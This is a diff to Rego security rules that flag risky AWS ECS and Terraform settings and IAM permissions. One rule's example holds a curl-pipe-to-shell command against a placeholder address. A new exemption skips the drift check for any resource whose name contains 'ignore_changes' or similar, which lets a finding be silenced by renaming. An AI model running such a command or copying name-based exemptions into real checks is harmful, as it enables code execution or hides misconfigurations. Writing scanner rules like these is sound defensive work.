@@ -58,7 +58,7 @@ writable_root_filesystem contains finding if {
 #   task definition, with the task role's credentials.
 # custom:
 #   severity: medium
-#   message: service {resource} lets callers open a shell in its running containers, so what runs there need not be what was deployed
+#   message: service {resource} lets callers open a shell in its containers, so what runs there need not be what was deployed
 #   reads:
 #     ecs.service:
 #       enable_execute_command: true
@@ -82,7 +82,7 @@ execute_command_enabled contains finding if {
 #   runs code in every new task, and no image scan ever sees it.
 # custom:
 #   severity: high
-#   message: container {container} downloads a script and runs it, so whoever controls that address or the way to it runs code in the task
+#   message: container {container} downloads a script and runs it, so that address decides what code runs in the task
 #   reads:
 #     ecs.task_definition:
 #       "containers[].command[]": curl -s http://203.0.113.30/install.sh | sh
@@ -155,7 +155,7 @@ saved_names(text) := names if {
 #   deployment or a restarted task runs, without a change anybody reviews.
 # custom:
 #   severity: medium
-#   message: service {resource} names its task definition without a revision, so whoever registers one decides what it runs next
+#   message: service {resource} names its task definition without a revision, so the next one that is registered decides what it runs
 #   reads:
 #     ecs.service:
 #       task_definition: app
@@ -193,7 +193,8 @@ unpinned(service, name) if {
 # title: Changes of the task definition are ignored
 # description: >-
 #   Terraform is told not to look at what the service runs. A task definition that somebody changes by hand, or that an
-#   attacker swaps, stays in place through every later apply.
+#   attacker swaps, stays in place through every later apply. A resource that is named after it (ignore_changes_task_definition) is
+#   meant so, and is left out.
 # custom:
 #   severity: low
 #   message: "{resource} ignores changes of what the task runs, so a task definition that is swapped by hand stays in place"
@@ -214,6 +215,7 @@ unpinned(service, name) if {
 ignored_task_drift contains finding if {
 	some service in lib.services
 	not lib.effective(service, ["deployment_controller", "type"]) in {"CODE_DEPLOY", "EXTERNAL"}
+	not named_for_drift(service)
 	some attribute in service.lifecycle.ignore_changes
 	attribute in {"task_definition", "all"}
 	finding := result.at(service, ["lifecycle", "ignore_changes"])
@@ -221,10 +223,14 @@ ignored_task_drift contains finding if {
 
 ignored_task_drift contains finding if {
 	some task in lib.tasks
+	not named_for_drift(task)
 	some attribute in task.lifecycle.ignore_changes
 	attribute in {"container_definitions", "all"}
 	finding := result.at(task, ["lifecycle", "ignore_changes"])
 }
+
+# A resource that is called after it is the variant that a caller chooses for a pipeline of its own.
+named_for_drift(resource) if regex.match(`(^|[._])ignor(e|es|ed|ing)_([a-z_]+_)?(changes?|task_definitions?|drift)($|[._\[])`, lower(resource.id))
 
 # METADATA
 # title: Every task definition may be replaced
@@ -233,7 +239,7 @@ ignored_task_drift contains finding if {
 #   in the account, with any role that may be passed.
 # custom:
 #   severity: high
-#   message: a policy statement of {resource} registers task definitions or redirects services everywhere, so its principals decide what every service runs
+#   message: a policy statement of {resource} can replace every task definition, so its principals decide what every service runs
 #   reads:
 #     iam.role:
 #       "trust_policy.statements[].principals[].type": Service
@@ -312,7 +318,7 @@ only_scales(principal) if {
 #   what the program is told at its next start, and nothing shows what it was before.
 # custom:
 #   severity: medium
-#   message: container {container} reads its environment from a bucket without versions, so whoever may write there changes the program's settings without a trace
+#   message: container {container} reads its environment from a bucket without versions, so its settings can change without a trace
 #   reads:
 #     ecs.task_definition:
 #       "containers[].environment_files[].value": null
@@ -373,7 +379,7 @@ unversioned(bucket) if {
 #   commit in there changes the task definitions of the next deployment, without a change anybody reviews here.
 # custom:
 #   severity: low
-#   message: module {resource} is fetched without a fixed version, so whoever changes it there changes the next deployment here
+#   message: module {resource} is fetched without a fixed version, so a change there changes the next deployment here
 #   reads:
 #     terraform.module:
 #       kind: git
@@ -421,7 +427,7 @@ any_version(module) if regex.match(`^\s*(>=?|!=)\s*v?[0-9][^,]*(,\s*(>=?|!=)\s*v
 #   there, past image and task definition, with the task's role.
 # custom:
 #   severity: high
-#   message: a policy statement of {resource} opens a shell in every container, so its principals change what runs there with the role of the task
+#   message: a policy statement of {resource} opens a shell in every container, so its principals act there with the task's role
 #   reads:
 #     iam.role: &same
 #       "policies[].kind": inline
